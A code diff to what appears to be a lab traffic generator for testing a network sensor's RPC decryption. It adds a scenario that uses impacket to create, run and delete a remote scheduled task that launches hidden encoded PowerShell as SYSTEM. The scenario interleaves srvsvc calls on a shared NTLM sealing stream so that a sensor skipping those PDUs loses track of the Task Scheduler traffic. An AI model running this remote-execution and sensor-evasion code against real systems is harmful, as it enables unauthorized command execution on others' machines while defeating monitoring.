@@ -14,10 +14,11 @@ import sys
 
 from impacket import smb
 from impacket.smbconnection import SMBConnection
-from impacket.dcerpc.v5 import transport, tsch, atsvc, sasec, epm
+from impacket.dcerpc.v5 import transport, tsch, atsvc, sasec, epm, srvs
 from impacket.dcerpc.v5.dtypes import NULL
 from impacket.dcerpc.v5.rpcrt import (RPC_C_AUTHN_LEVEL_CONNECT, RPC_C_AUTHN_LEVEL_NONE, DCERPC,
-                                     RPC_C_AUTHN_GSS_NEGOTIATE, RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
+                                     RPC_C_AUTHN_GSS_NEGOTIATE, RPC_C_AUTHN_LEVEL_PKT_PRIVACY, MSRPCBind, CtxItem,
+                                     MSRPCHeader, MSRPC_ALTERCTX, MSRPC_ALTERCTX_R)
 
 ATEXEC = "/usr/share/doc/python3-impacket/examples/atexec.py"
 JOB_RUN_PERIODICALLY = 0x01  # MS-TSCH 2.3.4 AT_INFO Flags
@@ -264,6 +265,77 @@ def scen_tcp(a, ndr64=False):
                 op_sequence=["SchRpcRegisterTask", "SchRpcRun", "SchRpcGetLastRunInfo", "SchRpcDelete"])
 
 
+def alter_context_add(dce, ctx_id, iface_uuid):
+    """Adds presentation context ctx_id for iface_uuid to the association with
+    an alter_context that carries no auth verifier: calls on it then use the
+    association's existing security context (MS-RPCE 3.3.1.5.3), so both
+    interfaces' PDUs share one NTLM sealing stream."""
+    call_id = dce._DCERPC_v5__callid
+    dce._DCERPC_v5__callid += 1
+    bind = MSRPCBind()
+    bind['max_tfrag'] = bind['max_rfrag'] = 4280
+    item = CtxItem()
+    item['AbstractSyntax'] = iface_uuid
+    item['TransferSyntax'] = DCERPC.NDRSyntax
+    item['ContextID'] = ctx_id
+    item['TransItems'] = 1
+    bind.addCtxItem(item)
+    packet = MSRPCHeader()
+    packet['type'] = MSRPC_ALTERCTX
+    packet['pduData'] = bind.getData()
+    packet['call_id'] = call_id
+    dce._transport.send(packet.get_packet())
+    resp = MSRPCHeader(dce._transport.recv())
+    if resp['type'] != MSRPC_ALTERCTX_R:
+        raise SystemExit("alter_context refused (PDU type %d)" % resp['type'])
+    return call_id
+
+
+def scen_tcp_interleaved(a):
+    """ITaskSchedulerService over ncacn_ip_tcp with NTLM at packet privacy, and
+    srvsvc added to the same association (alter_context, no new auth):
+    NetrServerGetInfo calls on context 1 come between the Task Scheduler calls
+    on context 0, all sealed with one NTLM context, so a sensor that skips the
+    srvsvc PDUs loses the RC4 stream of the later Task Scheduler calls."""
+    binding = epm.hept_map(a.target, tsch.MSRPC_UUID_TSCHS, protocol="ncacn_ip_tcp")
+    rt = transport.DCERPCTransportFactory(binding)
+    rt.set_credentials(a.user, a.password, a.domain)
+    dce = rt.get_dce_rpc()
+    dce.set_credentials(a.user, a.password, a.domain)
+    dce.set_auth_level(RPC_C_AUTHN_LEVEL_PKT_PRIVACY)
+    dce.connect()
+    dce.bind(tsch.MSRPC_UUID_TSCHS)
+    alter_call = alter_context_add(dce, 1, srvs.MSRPC_UUID_SRVS)
+    path = "\\Microsoft\\Windows\\TschLab\\Interleaved"
+    command = "powershell.exe"
+    arguments = "-NoP -W Hidden -enc " + PS_ENC
+    run_as = "S-1-5-18"
+    xml = task_xml(command, arguments, run_as)
+    ops = []
+
+    def on(ctx, name, f):
+        dce.set_ctx_id(ctx)
+        r = f()
+        ops.append(name)
+        return r
+
+    r = on(0, "SchRpcRegisterTask", lambda: tsch.hSchRpcRegisterTask(dce, path, xml, tsch.TASK_CREATE, NULL,
+                                                                    tsch.TASK_LOGON_SERVICE_ACCOUNT))
+    actual = r["pActualPath"]
+    on(1, "NetrServerGetInfo", lambda: srvs.hNetrServerGetInfo(dce, 101))
+    on(0, "SchRpcRun", lambda: tsch.hSchRpcRun(dce, path))
+    on(1, "NetrServerGetInfo", lambda: srvs.hNetrServerGetInfo(dce, 101))
+    on(0, "SchRpcGetLastRunInfo", lambda: tsch.hSchRpcGetLastRunInfo(dce, path))
+    on(0, "SchRpcDelete", lambda: tsch.hSchRpcDelete(dce, path))
+    dce.disconnect()
+    actual = actual[:-1] if actual and actual.endswith("\x00") else actual
+    return dict(interface="ITaskSchedulerService", auth_level=6, transport=binding, transfer_syntax="NDR",
+                epm_port=135, task_path=path, actual_path=actual, command=command, arguments=arguments,
+                encoded_script=PS_SCRIPT, run_as=run_as, logon_type=tsch.TASK_LOGON_SERVICE_ACCOUNT,
+                register_flags=tsch.TASK_CREATE, task_xml=xml, alter_context_call_id=alter_call,
+                interleaved_interface="srvsvc", interleaved_context_id=1, op_sequence=ops)
+
+
 def scen_tcp_krb(a):
     """EPM ept_map on 135, then ITaskSchedulerService over ncacn_ip_tcp with
     Kerberos (SPNEGO, auth type 9) at packet privacy: the TGT comes from the
@@ -365,7 +437,8 @@ def scen_sasec(a):
 def main():
     p = argparse.ArgumentParser(description=__doc__)
     p.add_argument("scenario", choices=["atexec-clear", "tsch-smb2-clear", "tcp", "tcp-ndr64", "at-smb1", "sasec-smb2", "nbss139",
-                                               "atexec-smb1", "atexec-smb1-clear", "at-smb1-trans", "tcp-krb", "at-smb2"])
+                                               "atexec-smb1", "atexec-smb1-clear", "at-smb1-trans", "tcp-krb", "at-smb2",
+                                               "tcp-interleaved"])
     p.add_argument("--target", required=True)
     p.add_argument("--user", default="alice")
     p.add_argument("--domain", default="LAB")
@@ -385,6 +458,8 @@ def main():
         out = scen_tcp(a)
     elif a.scenario == "tcp-krb":
         out = scen_tcp_krb(a)
+    elif a.scenario == "tcp-interleaved":
+        out = scen_tcp_interleaved(a)
     elif a.scenario == "tcp-ndr64":
         out = scen_tcp(a, ndr64=True)
     elif a.scenario == "at-smb1":
